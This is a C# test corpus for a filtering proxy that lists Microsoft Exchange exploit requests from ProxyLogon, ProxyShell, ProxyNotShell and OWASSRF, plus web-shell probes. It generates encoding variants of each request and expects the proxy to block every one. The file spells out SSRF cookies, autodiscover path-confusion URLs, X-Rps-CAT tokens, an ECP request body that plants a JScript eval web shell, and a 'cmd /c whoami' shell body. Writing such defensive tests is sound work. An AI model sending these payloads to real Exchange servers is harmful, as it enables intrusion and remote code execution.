using System.Text;
using static Exir.Proxy.Host.Tests.Corpora.ClientShape;

namespace Exir.Proxy.Host.Tests.Corpora;

/// <summary>
/// Exploit request shapes of ProxyLogon, ProxyShell, ProxyNotShell and OWASSRF, plus the web shells they left, each
/// with encoding variants (%40, %u0040, double encoding, encoded letters, case, ';' parameters, backslashes, doubled
/// slashes, dot segments). The bases follow tests/Exir.Proxy.Tests/CorpusTests.cs (copied, not shared: that list is
/// private to its test) and the published exploit write-ups; the variants are generated.
/// </summary>
public static class AttackShapes
{
    private const string Ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)";

    /// <summary>(wave, name, method, target, extra header line or "", expected status from a proxy).</summary>
    private static readonly (string Wave, string Name, string Method, string Target, string Header, int Status)[] Bases =
    [
        // ProxyLogon (CVE-2021-26855 SSRF through the backend cookies, then the ECP chain)
        ("ProxyLogon", "PL static js + BEResource", "POST", "/ecp/y.js", "Cookie: X-BEResource=Administrator@EXCH01:444/autodiscover/autodiscover.xml?a=~1942062522;", 403),
        ("ProxyLogon", "PL owa auth js + AnonResource", "GET", "/owa/auth/x.js", "Cookie: X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3;", 403),
        ("ProxyLogon", "PL cookie percent-encoded", "GET", "/owa/auth/x.js", "Cookie: X-BEResource=localhost%2Fowa%2Fauth%2Flogon.aspx%3F%7E3", 403),
        ("ProxyLogon", "PL cookie after a comma", "GET", "/ecp/a.js", "Cookie: a=b, X-BEResource=localhost:444/ecp/about.aspx?%7E1", 403),
        ("ProxyLogon", "PL cookie name encoded", "GET", "/ecp/a.js", "Cookie: X-AnonResource-%42ackend=localhost/ecp/default.flt?~3", 403),
        ("ProxyLogon", "PL proxyLogon.ecp", "POST", "/ecp/proxyLogon.ecp", "Cookie: X-BEResource=Administrator@EXCH01:444/ecp/proxyLogon.ecp?a=~1942062522;", 403),
        ("ProxyLogon", "PL proxyLogon.ecp without cookie", "POST", "/ecp/proxyLogon.ecp", "", 403),
        ("ProxyLogon", "PL DDI set OAB virtual directory", "POST", "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=x", "Cookie: X-BEResource=Administrator@EXCH01:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=x&a=~1942062522;", 403),
        ("ProxyLogon", "PL antSword", "POST", "/owa/auth/logon.aspx", "User-Agent: antSword/v2.1", 403),
        ("ProxyLogon", "PL EWS client 0.0.0.0", "POST", "/EWS/Exchange.asmx", "User-Agent: ExchangeServicesClient/0.0.0.0", 403),
        // Web shells the waves left behind
        ("post-exploitation", "WS shell in aspnet_client", "POST", "/aspnet_client/system_web/error.aspx", "", 403),
        ("post-exploitation", "WS shell in aspnet_client GET", "GET", "/aspnet_client/discover.aspx?cmd=whoami", "", 403),
        ("post-exploitation", "WS shell aspx;.jpg", "POST", "/aspnet_client/discover.aspx;.jpg", "", 403),
        ("post-exploitation", "WS ashx in aspnet_client", "POST", "/aspnet_client/shell.ashx", "", 403),
        ("post-exploitation", "WS unknown aspx in owa/auth", "POST", "/owa/auth/OutlookEN.aspx", "", 403),
        ("post-exploitation", "WS unknown aspx in owa/auth with version", "POST", "/owa/auth/15.2.1544/errorFE.aspx", "", 403),
        // ProxyShell (CVE-2021-34473 path confusion, CVE-2021-34523 X-Rps-CAT, then New-MailboxExportRequest)
        ("ProxyShell", "PS mapi/nspi", "GET", "/autodiscover/autodiscover.json?@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com", "", 403),
        ("ProxyShell", "PS ews", "POST", "/autodiscover/autodiscover.json?@evil.com/ews/exchange.asmx?&Email=autodiscover/autodiscover.json%3F@evil.com", "", 403),
        ("ProxyShell", "PS PowerShell X-Rps-CAT in query", "POST", "/autodiscover/autodiscover.json?@foo.com/PowerShell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBdBZG1pbmlzdHJhdG9yQGNvbnRvc28uY29t&Email=autodiscover/autodiscover.json%3F@foo.com", "", 403),
        ("ProxyShell", "PS X-Rps-CAT header", "POST", "/PowerShell/?PSVersion=5.1.19041.1", "X-Rps-CAT: VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z", 403),
        ("ProxyShell", "PS X-Rps-CAT direct", "POST", "/PowerShell?X-Rps-CAT=VgEAVAdXaW5kb3dz", "", 403),
        ("ProxyShell", "PS Email only", "GET", "/autodiscover/autodiscover.json?Email=autodiscover/autodiscover.json%3Fa..b.var&Protocol=XYZ", "", 403),
        ("ProxyShell", "PS mixed case", "POST", "/AutoDiscover/AutoDiscover.JSON?a=b@evil.com/EWS/exchange.asmx&Email=AutoDiscover/autodiscover.json%3Fa=b@evil.com", "", 403),
        // ProxyNotShell (CVE-2022-41040 / 41082)
        ("ProxyNotShell", "PNS plain", "POST", "/autodiscover/autodiscover.json?@evil.com/PowerShell/?&Email=autodiscover/autodiscover.json%3F@evil.com", "", 403),
        ("ProxyNotShell", "PNS owa FooProtocol", "GET", "/autodiscover/autodiscover.json?@evil.com/owa/&Email=autodiscover/autodiscover.json?@evil.com&Protocol=XYZ&FooProtocol=Powershell", "", 403),
        ("ProxyNotShell", "PNS encoded P", "GET", "/autodiscover/autodiscover.json?a..foo.var/owa/&Email=autodiscover/autodiscover.json?a..foo.var&Protocol=XYZ&FooProtocol=%50owershell", "", 403),
        ("ProxyNotShell", "PNS backslash", "GET", "/autodiscover\\autodiscover.json?a=x&Protocol=PowerShell", "", 403),
        ("ProxyNotShell", "PNS encoded path", "GET", "/%41utodiscover/autodiscover.json%3F@evil.com/%50ower%53hell/", "", 403),
        // OWASSRF (CVE-2022-41080 through OWA's frontend)
        ("OWASSRF", "OWASSRF path", "POST", "/owa/mastermailbox%40outlook.com/powershell", "", 403),
        ("OWASSRF", "OWASSRF path with query", "POST", "/owa/mastermailbox@outlook.com/powershell?X-Rps-CAT=x&PSVersion=5.1", "", 403),
        ("OWASSRF", "OWASSRF explicit logon header", "POST", "/owa/service.svc", "X-OWA-ExplicitLogonUser: owa/mastermailbox@outlook.com/powershell", 403),
        ("OWASSRF", "OWASSRF explicit logon header encoded", "POST", "/owa/", "X-OWA-ExplicitLogonUser: owa%2Fmastermailbox%40outlook.com%2Fpowershell", 403),
        // Encodings no client uses: refused as ambiguous before any rule.
        ("ambiguous", "AMB overlong slash", "GET", "/owa/%c0%af..%c0%afpowershell", "", 400),
        ("ambiguous", "AMB NUL", "GET", "/aspnet_client/shell.aspx%00.jpg", "", 400),
        ("ambiguous", "AMB five-fold encoding", "GET", "/autodiscover/autodiscover.json?%252525252540evil.com/x", "", 400),
    ];

    /// <summary>Every base and every variant of it, names unique.</summary>
    public static IReadOnlyList<ClientShape> All { get; } = Build();

    public static ClientShape Get(string name) => All.Single(s => s.Name == name);

    private static List<ClientShape> Build()
    {
        var list = new List<ClientShape>();
        var seen = new HashSet<string>(StringComparer.Ordinal);
        foreach (var b in Bases)
        {
            var headers = new List<KeyValuePair<string, string>> { new("User-Agent", Ua), new("Accept", "*/*") };
            if (b.Header.Length > 0)
            {
                var extra = H(b.Header)[0];
                headers.RemoveAll(h => h.Key.Equals(extra.Key, StringComparison.OrdinalIgnoreCase));
                headers.Add(extra);
            }
            var body = b.Method == "POST" ? Encoding.ASCII.GetBytes(BodyFor(b.Name)) : [];
            if (body.Length > 0) headers.Add(new("Content-Type", b.Name.Contains("DDI", StringComparison.Ordinal) ? "application/json; charset=utf-8" : "text/xml"));
            foreach (var (variant, target) in Variants(b.Target, b.Status == 400))
            {
                if (!seen.Add(b.Method + " " + target + " " + b.Header)) continue;
                list.Add(new ClientShape(variant.Length == 0 ? b.Name : $"{b.Name} [{variant}]", b.Method, target, headers, body)
                {
                    ExpectedStatus = b.Status,
                    Wave = b.Wave,
                });
            }
        }
        return list;
    }

    private static string BodyFor(string name) => name switch
    {
        var n when n.Contains("DDI", StringComparison.Ordinal) => "{\"identity\":{\"__type\":\"Identity:ECP\",\"DisplayName\":\"OAB (Default Web Site)\",\"RawIdentity\":\"00000000-0000-0000-0000-000000000000\"},\"properties\":{\"Parameters\":{\"__type\":\"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel\",\"ExternalUrl\":\"http://ffff/#<script language=\\\"JScript\\\" runat=\\\"server\\\">function Page_Load(){eval(Request[\\\"exec_code\\\"],\\\"unsafe\\\");}</script>\"}}}",
        var n when n.Contains("proxyLogon", StringComparison.Ordinal) => "<r at=\"Negotiate\" ln=\"Administrator\"><s>S-1-5-21-2645326-1500-500</s><s t=\"7\">S-1-1-0</s></r>",
        var n when n.StartsWith("WS", StringComparison.Ordinal) => "cmd=Response.Write(new ActiveXObject(\"WScript.Shell\").Exec(\"cmd /c whoami\").StdOut.ReadAll());",
        _ => "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>",
    };

    /// <summary>The target as given and its encoding variants (only those that change it).</summary>
    public static IEnumerable<(string Variant, string Target)> Variants(string target, bool ambiguousAlready)
    {
        yield return ("", target);
        if (ambiguousAlready) yield break;
        var q = target.IndexOf('?');
        var path = q < 0 ? target : target[..q];
        var query = q < 0 ? "" : target[q..];

        yield return ("upper-case path", path.ToUpperInvariant() + query);
        yield return ("%40", target.Replace("@", "%40", StringComparison.Ordinal));
        yield return ("%u0040", target.Replace("@", "%u0040", StringComparison.Ordinal).Replace("%40", "%u0040", StringComparison.Ordinal));
        yield return ("double-encoded @", target.Replace("%40", "@", StringComparison.Ordinal).Replace("@", "%2540", StringComparison.Ordinal));
        yield return ("encoded letters", EncodeLetters(path, every: 3, upperHex: false) + query);
        yield return ("encoded letters, upper hex, in query too", EncodeLetters(path, every: 4, upperHex: true) + EncodeLetters(query, every: 5, upperHex: true));
        yield return ("double-encoded letters", EncodeLetters(path, every: 5, upperHex: false).Replace("%", "%25", StringComparison.Ordinal) + query);
        yield return ("; path parameter", InsertAfterFirstSegment(path, ";a=1") + query);
        yield return ("backslashes", path[..1] + path[1..].Replace('/', '\\') + query);
        yield return ("doubled slashes", path.Replace("/", "//", StringComparison.Ordinal) + query);
        yield return ("dot segments", InsertAfterFirstSegment(path, "/./x/..") + query);
        yield return ("mixed case, doubled slash, %40", Alternate(path).Replace("/", "//", StringComparison.Ordinal) + query.Replace("@", "%40", StringComparison.Ordinal));
    }

    /// <summary>Every n-th ASCII letter as %xx (what the normaliser must decode back).</summary>
    private static string EncodeLetters(string s, int every, bool upperHex)
    {
        var sb = new StringBuilder();
        var count = 0;
        for (var i = 0; i < s.Length; i++)
        {
            var c = s[i];
            // Leave existing escapes alone.
            if (c == '%' && i + 2 < s.Length) { sb.Append(s, i, 3); i += 2; continue; }
            if (char.IsAsciiLetter(c) && ++count % every == 0) sb.Append('%').Append(((int)c).ToString(upperHex ? "X2" : "x2"));
            else sb.Append(c);
        }
        return sb.ToString();
    }

    private static string InsertAfterFirstSegment(string path, string insert)
    {
        var second = path.IndexOf('/', 1);
        return second < 0 ? path + insert : path[..second] + insert + path[second..];
    }

    private static string Alternate(string s)
    {
        var chars = s.ToCharArray();
        for (var i = 0; i < chars.Length; i++) chars[i] = i % 2 == 0 ? char.ToUpperInvariant(chars[i]) : char.ToLowerInvariant(chars[i]);
        // Keep existing escapes' hex valid (case of hex digits does not matter).
        return new string(chars);
    }
}
